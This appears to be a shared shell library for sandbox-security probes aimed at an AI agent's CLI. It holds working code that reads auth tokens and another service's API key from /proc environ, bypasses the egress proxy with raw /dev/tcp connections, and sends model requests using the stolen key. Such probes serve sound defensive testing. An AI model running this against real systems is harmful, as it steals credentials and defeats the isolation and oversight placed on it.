# What many probes use. Every probe is a shell that has read this first.
export PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin

# Both ways to a host and port: through the egress proxy, and past it.
reach() {
  if (exec 3<>/dev/tcp/127.0.0.1/9201) 2>/dev/null; then
    exec 3<>/dev/tcp/127.0.0.1/9201
    printf 'CONNECT %s:%s HTTP/1.1\r\nHost: %s\r\n\r\n' "$1" "$2" "$1" >&3
    timeout 2 cat <&3
    exec 3>&-
  fi
  timeout 2 cat < "/dev/tcp/$1/$2"
}

# The CLI keeps its token from what it starts; its own environment has it all the same.
own_token() {
  local pid=$$ found
  while [ "${pid:-0}" -gt 0 ]; do
    found=$(tr '\0' '\n' < "/proc/$pid/environ" | sed -n 's/^ANTHROPIC_AUTH_TOKEN=//p')
    [ -n "$found" ] && { echo "$found"; return; }
    pid=$(sed -n 's/^PPid:\t//p' "/proc/$pid/status")
  done
}

# curl to the way to the model that a session is given: WORDS PATH.
own_way() {
  local path=${*: -1}
  set -- --noproxy '*' "${@:1:$#-1}"
  [ -S /run/model.sock ] && set -- --unix-socket /run/model.sock "$@"
  curl "$@" "${ANTHROPIC_BASE_URL:-http://model}$path"
}

stolen_key() {
  tr '\0' '\n' < "/proc/$SERVICE/environ" | sed -n 's/^AGENT_API_KEY=//p'
}

# Both ways to the model: METHOD PATH [BODY [TOKEN [MORE CURL WORDS]]].
ask() {
  local method=$1 path=$2 body=${3:-} token=${4:-$(own_token)}
  shift $(($# < 4 ? $# : 4))
  set -- -s -m 5 -X "$method" -H 'content-type: application/json' "$@"
  [ -n "$body" ] && set -- "$@" --data-binary "$body"
  own_way -H "authorization: Bearer $token" "$@" "$path"
  curl --noproxy '*' -H "x-api-key: $(stolen_key)" "$@" "$UPSTREAM$path"
}

# A request to /v1/messages with more fields, and messages other than a greeting.
message() {
  local said='"messages": [{"role": "user", "content": "say hi"}]'
  local body="{\"model\": \"${MODEL:-claude-opus-5-5}\", \"max_tokens\": ${MOST:-10}"
  body="$body, \"metadata\": {\"user_id\": \"$MARK\"}, ${2:-$said}${1:+, $1}}"
  ask POST "${AT:-/v1/messages}" "$body" "${TOKEN:-$(own_token)}"
}
